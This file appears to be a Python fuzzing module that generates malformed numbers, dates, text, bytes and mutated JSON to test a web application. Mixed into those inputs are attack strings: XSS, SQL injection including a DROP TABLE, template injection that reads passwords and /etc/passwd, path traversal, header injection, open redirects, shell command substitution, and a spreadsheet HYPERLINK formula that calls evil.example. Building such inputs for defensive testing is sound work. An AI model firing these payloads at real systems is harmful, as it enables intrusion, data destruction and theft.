"""What nobody means to type: values at the ends, values of another kind, and strings of attack."""

from __future__ import annotations

import json
import random
from typing import Any

#: Stands in every string of attack, so that it is found again wherever it comes out.
MARK = "zq9x"
#: What a template would make of {{7*7}} beside the mark.
WORKED_OUT = f"{MARK}49"

SCRIPTS = (
    f"<script>window.__hit='{MARK}'</script>",
    f'"><img src=x onerror="window.__hit=\'{MARK}\'">',
    f"'><svg onload=window.__hit='{MARK}'>",
    f"</textarea></title><script>alert('{MARK}')</script>",
    f"javascript:alert('{MARK}')//",
    f"</script><script>window.__hit='{MARK}'//",
)
SQL = (
    f"{MARK}' OR '1'='1",
    f"{MARK}'; SELECT pg_sleep(9); --",
    f"{MARK}') UNION SELECT version() --",
    f'{MARK}" OR ""="',
    f"{MARK}%' OR name LIKE '%",
    f"{MARK}\\' OR 1=1 --",
    f"{MARK}$$; DROP TABLE clients_client; $$",
)
TEMPLATES = (
    f"{MARK}{{{{7*7}}}}",
    f"{MARK}{{{{ request.user.password }}}}{{% debug %}}",
    f"{MARK}{{% include '/etc/passwd' %}}",
    f"{MARK}${{7*7}}#{{7*7}}<%= 7*7 %>",
    f"{MARK}{{0.__class__.__init__.__globals__}}%(secret)s%s%n",
)
FORMULAS = (
    f'=HYPERLINK("https://evil.example/{MARK}")',
    f"+{MARK}+1",
    f"-{MARK}-1",
    f"@SUM({MARK})",
    f"\t={MARK}",
    f"\r={MARK}",
)
LINES = (
    f"{MARK}\r\nX-Injected: 1",
    f"{MARK}\nSet-Cookie: sessionid={MARK}",
    f"{MARK}%0d%0aX-Injected: 1",
    f"{MARK}\u2028X-Injected: 1",
    f"{MARK}嘊嘍X-Injected: 1",
)
PATHS = (
    f"../../../../etc/passwd\x00{MARK}",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
)
AWAY = (
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
    "https:evil.example",
    "\thttps://evil.example",
    "javascript:alert(1)",
    "http://[evil",
)
ATTACKS = (*SCRIPTS, *SQL, *TEMPLATES, *FORMULAS, *LINES, *PATHS, *AWAY)

NUMBERS = (
    *(
        "-1",
        "0",
        "-0",
        "+5",
        "5,5",
        "1.0",
        "1e400",
        "-1e400",
        "1e-400",
        "1e1000000",
        "1E+999999999",
    ),
    *(
        "1E+999999999",
        "NaN",
        "sNaN",
        "-NaN123",
        "Infinity",
        "-Infinity",
        "inf",
        "0x10",
        "1_000",
        "0.00000000001",
    ),
    *("٣", "²", "½", "１２", "Ⅷ", "९", "9" * 40, "9" * 5000, "-" + "9" * 25, "1" + "0" * 330),
    *(str(2**31 - 1), str(2**31), str(2**63 - 1), str(2**63), str(2**64), "1/0", "3.5", " 7 "),
)
DAYS = (
    *("0001-01-01", "9999-12-31", "1 January 1000", "31 December 9999", "0000-00-00", "2026-02-29"),
    *(
        "29 February 2100",
        "31 02 2026",
        "2026-W11-5",
        "20260313",
        "1.1.1",
        "٢٠٢٦-٠٣-١٣",
        "10000-01-01",
    ),
    *(
        "9999-12-31T23:59",
        "0001-01-01T00:00",
        "2026-03-29T02:30",
        "2026-03-13T10:00+99:99",
        "-1-1-1",
    ),
    *(
        "24:00",
        "23:59:60",
        "00:00",
        "99:99",
        "1:1",
        "9999-12",
        "0001-01",
        "1 March 9998",
        "-1-1-1",
        "٢٠٢٦-٠٣-١٣",
    ),
)
TEXTS = (
    *("", " ", "\x00", "a\x00b", "\u202eevil", "\u200b", "\ufeff", "\u0301" * 500, "👩‍👩‍👧‍👦" * 40),
    *(
        "\t\n\r\v\f\x1c\x85",
        "\x7f\x1b[2J",
        "null",
        "None",
        "undefined",
        "true",
        "[]",
        "{}",
        '{"a":',
    ),
    *("00000000-0000-0000-0000-000000000000", "a" * 201, "a" * 10_000, "İıſK", "ß" * 300, "%", "_"),
    *("%00", "\\", "'", '"', "`", ";", "$(id)", "|id", "a@b", "a@" + "b" * 300 + ".example"),
    *("١٢٣", "x@ex\u200bample.org", "🇦" * 100, "\u0000\u0000", "-", "--", "on", "all", "total"),
)
#: No Unicode at all: sent as these bytes.
BYTES = (b"\xff\xfe\xfd", b"\xc0\xaf", b"\xed\xa0\x80", b"a\x80b", b"\xf8\x88\x80\x80\x80")
HUGE = "h" * 1_000_000

EVERYTHING: tuple[str | bytes, ...] = (*ATTACKS, *NUMBERS, *DAYS, *TEXTS, *BYTES)


def value(chance: random.Random) -> str | bytes:
    """Any of them; once in a hundred a million characters."""
    if chance.random() < 0.01:
        return HUGE
    return chance.choice(
        chance.choice((ATTACKS, NUMBERS, DAYS, TEXTS, BYTES)),  # type: ignore[arg-type]
    )


# --- JSON -----------------------------------------------------------------------------------------
NODES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 1.5, 2**31, 2**63, 10**40, float("inf"), float("-inf")),
    *(float("nan"), "", "x", "\ud800", "\x00", [], {}, [[]], {"": ""}, [None] * 200, "a" * 5000),
    *({"__proto__": {}}, {"$ne": None}, ["a", {"b": "c"}], *ATTACKS[:8], *NUMBERS[:14], *DAYS[:6]),
)
#: Texts that are no JSON, or are so only just.
RAW = (
    *(b"", b"null", b"[]", b"{}", b"0", b'"x"', b"{", b"\xff\xfe{}", b"\xef\xbb\xbf{}", b"NaN"),
    *(b"[" * 100_000, b'{"a":' * 50_000, b'{"operations": []}', b'{"operations": {}}', b"9" * 5000),
    *(b'{"a":1,"a":2}', '{"operations":[]}'.encode("utf-16"), b"\x00", b'{"operations":[[]]}'),
    *(b'{"csp-report": []}', b'{"csp-report": {"document-uri": 5}}', b'{"device": []}'),
)


def mutated(said: Any, chance: random.Random) -> bytes:
    """The same JSON with one to three places of it spoilt."""
    if chance.random() < 0.15:
        return chance.choice(RAW)
    copy = json.loads(json.dumps(said))
    for _ in range(chance.randint(1, 3)):
        copy = _spoilt(copy, chance)
    return json.dumps(copy, ensure_ascii=True).encode()


def _spoilt(node: Any, chance: random.Random) -> Any:
    """Some place in it is another value, is gone or is there twice."""
    if not isinstance(node, dict | list) or not node or chance.random() < 0.05:
        return chance.choice(NODES)
    if isinstance(node, list):
        at = chance.randrange(len(node))
        node[at] = _spoilt(node[at], chance)
        return [*node, node[at]] if chance.random() < 0.1 else node
    key = chance.choice(sorted(node))
    if chance.random() < 0.15:
        del node[key]
    else:
        node[key] = _spoilt(node[key], chance)
    return node
